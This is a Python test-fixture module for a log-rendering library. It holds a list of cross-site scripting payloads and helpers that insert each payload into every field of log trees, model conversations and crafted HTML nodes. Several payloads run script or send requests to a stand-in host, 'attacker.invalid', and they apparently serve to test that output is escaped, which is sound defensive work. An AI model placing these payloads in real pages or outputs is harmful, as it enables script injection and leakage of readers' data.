"""What a model could write to attack the reader of a page, and a tree that holds it wherever text can stand.

Every string marks success the same way: `window.__pwned` is set, a dialog opens, or a request leaves.
"""

from __future__ import annotations

from rollbook.records import logtree
from rollbook.records.logtree import Node, Trace
from rollbook.records.logtree.log import exception_node

RUN = "window.__pwned=1"
AWAY = "http://attacker.invalid/leak"

STRINGS = [
    f"<script>{RUN}</script>",
    f"</p></div></main><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></noscript></template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<script\x00>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"<script/x>{RUN}</script\t\n bar>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex="1" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' tabindex='1' x='",
    f"` onmouseover=`{RUN}` autofocus onfocus=`{RUN}`",
    f"x onclick={RUN} style=position:fixed;inset:0 ",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={AWAY}>",
    f"<base href={AWAY}/>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=prefetch href={AWAY}><link rel=preconnect href={AWAY}><link rel=dns-prefetch href={AWAY}>",
    f"<style>@import '{AWAY}.css'; body{{background:url({AWAY})}}</style>",
    f"<div style=\"background:url('{AWAY}')\">x</div>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<a href={AWAY} ping={AWAY}>click</a>",
    f"<form action={AWAY}><button autofocus>send</button></form>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f'data:image/png;base64,AAAA" onerror="{RUN}',
    f"data:image/png;base64,AAAA\n<script>{RUN}</script>",
    AWAY + ".png",
    "//attacker.invalid/leak.png",
    "\\\\attacker.invalid\\leak.png",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufeff\u202e<script>{RUN}</script>\u2028\u2029",
    f"\ud800<script>{RUN}</script>\udfff",
    f"＜script＞{RUN}＜/script＞<ſcript>{RUN}</ſcript>",
    f"${{{RUN}}}{{{{constructor.constructor('{RUN}')()}}}}<%= {RUN} %>",
    f"');{RUN};//",
    f'";{RUN};//\r\n{RUN}//',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "lt-main",
    "__proto__",
]


class Broken(Exception):
    """Named by its instances' text wherever an exception shows itself."""


def tree_of(text: str) -> Trace:
    """The text as every string of every element."""
    with logtree.trace(text) as trace:
        _log_elements(text)
        with logtree.scope(text, **{text: text, "group_idx": text, "reward": text}):
            _log_elements(text)
            with logtree.scope(text, traj_idx=text, task_id=text), logtree.scope(text, turn=text):
                _log_elements(text)
                _log_conversations(text)
        with logtree.scope(text, eval=text) as late:
            late.identify(**{text: text})
            _log_elements(text)
    trace.started_at = text
    broken = type(text.replace("\0", "").encode("utf-8", "replace").decode(), (Broken,), {})
    trace.root.children.append(exception_node(broken(text)))
    trace.root.children += [Node(text, {text: text}, [text], {"type": text, text: text}), *_crafted(text)]
    return trace


def _log_elements(text: str) -> None:
    logtree.text(text)
    logtree.table([{text: text, "other": [text, {text: text}]}], caption=text)
    logtree.table([[text, 1, None]], text, columns=[text])
    logtree.table({text: text}, caption=text, columns=("key", "value"))


def _log_conversations(text: str) -> None:
    image = {"type": "image_url", "image_url": {"url": text}}
    anthropic = {"type": "image", "source": {"type": "base64", "media_type": text, "data": text}}
    parts = [
        text,
        {"type": "text", "text": text},
        {"type": "thinking", "thinking": text},
        {"type": "reasoning", "reasoning": {text: text}},
        image,
        anthropic,
        {"type": "image", "image": text},
        {"type": "tool_use", "id": text + "2", "name": text, "input": {text: text}},
        {"type": "tool_result", "tool_use_id": text + "2", "content": text},
        {"type": text, text: text},
        {text: text},
        [text],
    ]
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": text}}
    logtree.conversation(
        [
            {
                "role": text,
                "content": text,
                "name": text,
                "reasoning_content": text,
                text: text,
                "refusal": text,
            },
            {"role": "assistant", "content": parts, "reasoning": text, "thinking": {text: text}},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [call, text, {text: text}],
                "function_call": call,
            },
            {"role": "tool", "tool_call_id": text, "name": text, "content": text},
            {"role": "assistant", "unparsed_tool_calls": [{"raw_text": text, "error": text}, text]},
            {"role": "user", "content": {text: text}, "extra": text, "other": {text: text}},
            text,
        ],
        traj_idx=text,
        **{text: text},
    )


def _crafted(text: str) -> list[Node | str]:
    """Nodes that only a tampered file can hold."""
    attrs = {"onclick": text, "style": text, "class": text, "id": text, "href": text, "src": text, text: text}
    inside: list[Node | str] = [text, Node("script", attrs, [text]), Node("a", attrs, [text])]
    rows: list[Node | str] = [Node("tr", attrs, [Node("th", attrs, [text]), Node("td", attrs, list(inside))])]
    return [
        text,
        *(
            Node(tag, attrs, list(inside))
            for tag in ("div", "p", "pre", "h2", "section", "details", "iframe", "style", "svg", "img")
        ),
        Node("table", attrs, [Node("caption", attrs, [text]), *rows]),
        Node("section", {"data-group-idx": text}, [Node("h2", attrs, list(inside)), *inside]),
        Node("div", attrs, [], {"type": "table", "columns": text, "rows": text, "caption": {text: text}}),
        Node("div", attrs, [], {"type": "table", "rows": [[1.0]], "nonfinite": [[0, 0, text]]}),
        Node("div", attrs, [], {"type": "conversation", "messages": text}),
        Node("div", attrs, [], {"type": "exception", "exception": text, "traceback": text}),
    ]
